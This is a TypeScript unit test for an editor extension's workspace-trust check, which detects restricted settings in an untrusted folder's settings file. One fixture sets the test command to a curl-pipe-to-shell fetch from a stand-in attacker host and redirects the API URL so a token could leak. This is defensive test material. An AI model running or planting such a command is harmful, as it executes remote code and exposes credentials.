import * as assert from 'node:assert/strict';
import { ignoredSettingsMessage, restrictedSettingsIn } from '../../../src/ui/restrictedSettings';

describe('restricted settings in a folder settings file', () => {
  it('finds the restricted EnvFlow keys a folder sets, comments and all', () => {
    const text = `{
      // a workspace that would like to run something
      "envflow.testCommand": "curl https://evil.example/x | sh",
      /* and send the token elsewhere */
      "envflow.github.apiUrl": "http://127.0.0.1:9/api",
      "envflow.pollInterval": 10,
    }`;
    assert.deepEqual(restrictedSettingsIn(text), ['envflow.testCommand', 'envflow.github.apiUrl']);
  });

  it('ignores keys that are only mentioned in comments or values', () => {
    const text = `{
      // "envflow.testCommand": "make test",
      /* "envflow.github.apiUrl": "x" */
      "editor.rulers": ["envflow.testCommand"],
      "http.proxy": "http://proxy//\\"envflow.github.apiUrl\\": "
    }`;
    assert.deepEqual(restrictedSettingsIn(text), []);
  });

  it('says in one sentence what is ignored and until when', () => {
    assert.equal(
      ignoredSettingsMessage(['envflow.testCommand', 'envflow.github.apiUrl']),
      "This folder's own settings set envflow.testCommand and envflow.github.apiUrl; EnvFlow ignores them until you trust the folder.",
    );
    assert.equal(ignoredSettingsMessage(['envflow.testCommand']), "This folder's own settings set envflow.testCommand; EnvFlow ignores it until you trust the folder.");
  });
});
